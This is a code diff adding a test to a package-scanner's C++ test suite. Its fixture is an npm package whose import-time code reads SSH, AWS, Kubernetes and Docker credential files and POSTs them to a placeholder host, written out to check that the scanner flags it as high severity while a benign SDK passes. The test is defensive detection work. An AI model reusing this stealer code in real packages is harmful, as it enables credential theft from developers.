@@ -6,6 +6,7 @@
 
 #include <algorithm>
 
+#include "airlock/catalogue/catalogue.h"
 #include "test_util.h"
 
 namespace airlock::analyze {
@@ -15,7 +16,12 @@ using airlock::testing::TempTree;
 
 const Engine& engine() {
   static std::shared_ptr<const Engine> e = [] {
-    auto r = Engine::create({});
+    // Same rules as the CLI: shipped YARA rules plus the catalogue's generated targets.
+    EngineOptions options;
+    auto cat = catalogue::Catalogue::load_embedded();
+    EXPECT_TRUE(cat);
+    if (cat) options.rules.generated = cat->to_yara();
+    auto r = Engine::create(options);
     EXPECT_TRUE(r) << r.error().message;
     return *r;
   }();
@@ -208,6 +214,33 @@ TEST(PackageScan, DeferredDeclarationFileIsScannedWhenInstallCodeLoadsIt) {
   unreferenced.write("package.json", R"({"name":"t","version":"1.0.0"})");
   unreferenced.write("types/index.d.ts", shell);
   EXPECT_LT(max_severity(scan_dir(unreferenced)), Severity::kMedium);
+}
+
+TEST(PackageScan, CredentialHarvesterInImportTimeCodeIsHigh) {
+  // No install script: the stealer runs when the package is imported (or its bin launched
+  // by npx). One credential family next to a network call is what SDKs do; many is not.
+  TempTree t;
+  t.write("package.json", R"({"name":"h","version":"1.0.0","main":"index.js"})");
+  t.write("index.js",
+          "const fs = require('fs'), os = require('os'), https = require('https');\n"
+          "const files = ['.ssh/id_rsa', '.aws/credentials', '.kube/config', '.docker/config.json'];\n"
+          "const out = files.map((f) => { try { return fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch (e) { return ''; } });\n"
+          "https.request({ host: 'collect.example.invalid', method: 'POST' }).end(JSON.stringify(out));\n");
+  TargetResult r = scan_dir(t);
+  const Finding* f = find_rule(r, "credential-harvester");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::kHigh);
+  EXPECT_EQ(f->category, Category::kCredentialAccess);
+
+  TempTree sdk;
+  sdk.write("package.json", R"({"name":"cloud-sdk","version":"1.0.0","main":"index.js"})");
+  sdk.write("index.js",
+            "const fs = require('fs'), os = require('os'), https = require('https');\n"
+            "const creds = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\n"
+            "https.request({ host: 'sts.example.invalid' }).end();\n");
+  TargetResult s = scan_dir(sdk);
+  EXPECT_EQ(find_rule(s, "credential-harvester"), nullptr);
+  EXPECT_LT(max_severity(s), Severity::kHigh);
 }
 
 TEST(PackageScan, DirectoryWithoutManifest) {
